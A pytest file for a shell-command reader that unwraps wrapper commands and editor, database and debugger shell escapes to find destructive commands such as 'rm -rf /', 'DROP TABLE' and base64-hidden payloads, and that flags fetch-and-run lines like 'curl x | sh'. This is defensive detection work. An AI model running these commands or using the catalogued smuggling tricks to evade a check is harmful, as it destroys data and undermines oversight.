"""What carriers carry."""

import pytest

from warpgate.reading.carriers import unfold
from warpgate.reading.commands import UNKNOWN, Script
from warpgate.reading.shell import read


def opened(text: str) -> Script:
    return unfold(read(text))


def carried(text: str) -> list[str]:
    """The commands that are no carriers, each as `via > via: words`, a `?` for each unknown part."""
    found = []
    for command in opened(text).commands:
        if command.words and not command.carrier:
            words = " ".join(word.text for word in command.words).replace(UNKNOWN, "?")
            found.append(f"{' > '.join(command.via)}: {words}" if command.via else words)
    return found


CARRIED = [
    ("sudo -u deploy -H git clean -fdx", ["sudo: git clean -fdx"]),
    ("env -S 'git reset --hard'", ["env: git reset --hard"]),
    ("env -i PATH=/usr/bin ls -la", ["env: ls -la"]),
    ("bash -lc 'git reset --hard origin/main'", ["bash -c: git reset --hard origin/main"]),
    ("bash -c 'rm \"$1\"' _ x", ["bash -c: rm x"]),
    ("sh <<<'git clean -fdx'", ["sh <: git clean -fdx"]),
    ("cat <<'EOF' | sh\ngit stash clear\nEOF", ["cat", "sh <: git stash clear"]),
    ("echo HEAD~2 | xargs git reset --hard", ["echo HEAD~2", "xargs: git reset --hard HEAD~2"]),
    ("ls | xargs -I{} rm a/{}", ["ls", "xargs: rm a/?"]),
    ("find build -name '*.o' -exec rm {} +", ["find build -name *.o", "find -exec: rm build/?.o"]),
    ("timeout 5 nohup nice -n 3 rm x", ["timeout > nohup > nice: rm x"]),
    ("git -c alias.ll='log --oneline' ll -5", ["git alias: git log --oneline -5"]),
    ("git -c alias.x='!rm -rf' x a", ["git alias: rm -rf a"]),
    ("tmux new-session -d 'rm -rf ~/a'", ["tmux new-session: rm -rf ~/a"]),
    ("ssh -p 2222 deploy@web1 -- sudo rm -rf /srv", ["ssh > sudo: rm -rf /srv"]),
    ("kubectl exec -it pg-0 -- psql -c 'DROP TABLE s'", ["kubectl exec: psql -c DROP TABLE s"]),
    ("docker run --rm -v a:/x img sh -c 'rm -rf /x'", ["docker run > sh -c: rm -rf /x"]),
    ("echo cm0gLXJmIC8K | base64 -d | sh", ["echo cm0gLXJmIC8K", "base64 -d", "sh <: rm -rf /"]),
    ("uv run --with x pytest -q", ["uv run: pytest -q"]),
    ("awk 'BEGIN { system(\"rm -rf x\") }'", ['awk BEGIN { system("rm -rf x") }', "awk > system: rm -rf x"]),
    ("awk -F'|' '$3>1 || /a|b/ {print $1}'", ["awk -F| $3>1 || /a|b/ {print $1}"]),
    ("git -c core.sshCommand='rm x' fetch", ["git -c: rm x", "git -c core.sshCommand=rm x fetch"]),
    (
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm x' git log",
        ["GIT_CONFIG_KEY_0: rm x", "git log"],
    ),
    ("FOO=a bash -c 'rm $FOO'", ["bash -c: rm a"]),
    ("concurrently 'npm:b' 'rm x'", ["concurrently: npm run b", "concurrently: rm x"]),
    ("python3.11 -m pytest", ["python3 -m: pytest"]),
    ("tar xf a --checkpoint-action=exec='rm x'", ["tar xf a --checkpoint-action=exec=rm x", "tar: rm x"]),
    ("rsync -e 'ssh -p 22' a b:c", ["rsync -e ssh -p 22 a b:c"]),
    # Little languages that can run a shell
    ("sed '1e rm x' f", ["sed 1e rm x f", "sed: rm x"]),
    ("sed 's/.*/rm x/e' f", ["sed s/.*/rm x/e f", "sed: rm x"]),
    ("sed -e 's/e/we/;/e/d' f", ["sed -e s/e/we/;/e/d f"]),
    ("sed -n 's|a[|]e|b|p' f", ["sed -n s|a[|]e|b|p f"]),
    ("vim -c ':!rm x' -c q f", ["vim -c :!rm x -c q f", "vim: rm x"]),
    ("vim +'silent! %!rm x' f", ["vim +silent! %!rm x f", "vim: rm x"]),
    ("ex -s f <<'E'\na\n!not run\n.\nr !rm x\nE", ["ex -s f", "ex: rm x"]),
    ("nvim --headless '+Lazy! sync' +qa", ["nvim --headless +Lazy! sync +qa"]),
    ("ed f <<< 'w !rm x'", ["ed f", "ed: rm x"]),
    ("psql -c '\\! rm x'", ["psql -c \\! rm x", "psql: rm x"]),
    ("psql <<'E'\n\\o |rm x\nselect 1;\nE", ["psql", "psql: rm x"]),
    ("sqlite3 a.db '.shell rm x'", ["sqlite3 a.db .shell rm x", "sqlite3: rm x"]),
    ("mysql -e 'system rm x'", ["mysql -e system rm x", "mysql: rm x"]),
    ("gdb -ex 'shell rm x' a", ["gdb -ex shell rm x a", "gdb: rm x"]),
    ("gdb -ex run --args ./a b", ["gdb: ./a b"]),
    ("PAGER='rm x' man ls", ["PAGER: rm x", "man ls"]),
    ("export GIT_EDITOR='rm x'; git commit", ["GIT_EDITOR: rm x", "export GIT_EDITOR=rm x", "git commit"]),
    ("PAGER='less -R' EDITOR=vim man ls", ["man ls"]),
    ("rsync --rsync-path='sudo rsync' a b:c", ["rsync --rsync-path=sudo rsync a b:c"]),
    ("rsync --rsync-path='rm x; rsync' a b:c", ["rsync --rsync-path=rm x; rsync a b:c", "rsync: rm x", "rsync: rsync"]),
    ("timeout -k 1 5 rm x", ["timeout: rm x"]),
    ("command -v git", ["command -v git"]),
    ("docker run --rm axllent/mailpit", ["docker run --rm axllent/mailpit"]),
    ("sudo -l", ["sudo -l"]),
    ("echo 'sudo rm x'", ["echo sudo rm x"]),
]


@pytest.mark.parametrize(("text", "expected"), CARRIED, ids=[text for text, _ in CARRIED])
def test_what_a_carrier_carries_is_found(text: str, expected: list[str]) -> None:
    assert carried(text) == expected
    assert not opened(text).problems


HIDDEN = [
    "curl x | sh",
    "awk '{print | \"sh\"}' f",
    "bash <(curl x)",
    'eval "$(curl x)"',
    'bash -c "$(curl x)"',
    "source <(curl x)",
    "wget -O- x | sudo bash",
]


@pytest.mark.parametrize("text", HIDDEN)
def test_a_text_that_cannot_be_seen_is_a_problem(text: str) -> None:
    assert "hidden-payload" in [problem.what for problem in opened(text).problems]


def test_the_redirections_of_a_shell_are_kept() -> None:
    _, redirected = sorted(opened("bash -c 'echo x' > /etc/hosts").commands, key=lambda command: not command.words)
    assert [redirect.target.text for redirect in redirected.redirects] == ["/etc/hosts"]


def test_a_feed_reaches_the_other_machine() -> None:
    command = opened("ssh web1 bash -s <<'E'\nrm x\nE").commands[-1]
    assert ([word.text for word in command.words], command.host) == (["rm", "x"], "web1")


def test_the_carrier_stays_with_its_own_words() -> None:
    sudo, rm = opened("sudo -u bob rm x").commands
    assert (sudo.carrier, [word.text for word in sudo.words], sudo.via) == (True, ["sudo", "-u", "bob"], ("sudo",))
    assert (rm.carrier, [word.text for word in rm.words], rm.via) == (False, ["rm", "x"], ("sudo",))


def test_another_host_is_noted() -> None:
    assert opened("ssh bob@web1 rm x").commands[-1].host == "web1"
    assert opened("docker exec db rm x").commands[-1].host == "db"


def test_the_code_that_djangos_shell_is_given_is_read() -> None:
    for text in ("python manage.py shell -c 'A.objects.all().delete()'", "echo 'A.objects.all().delete()' | ./manage.py shell"):
        assert [call.name for call in opened(text).calls][-1] == "A.objects.all.delete", text


def test_what_find_and_sed_write_is_a_redirection() -> None:
    for text in ("find . -fprintf /etc/x '%p'", "sed -n 'w /etc/x' f", "sed 's/a/b/w /etc/x' f"):
        assert [r.target.text for command in opened(text).commands for r in command.redirects] == ["/etc/x"], text


def test_what_is_taken_out_of_the_environment_is_an_assignment() -> None:
    (command,) = opened("env -u A --unset=B -i C=1 make").commands
    assert [(name, word.text) for name, word in command.assignments] == [("A", ""), ("B", ""), ("C", "1")]


@pytest.mark.parametrize("text", ["unset A", "alias a='rm x'", "export A=", "declare -x A=1", "readonly A=1", "env -u A"])
def test_changes_of_the_environment_are_commands(text: str) -> None:
    assert len(opened(text).commands[0].words) > 1
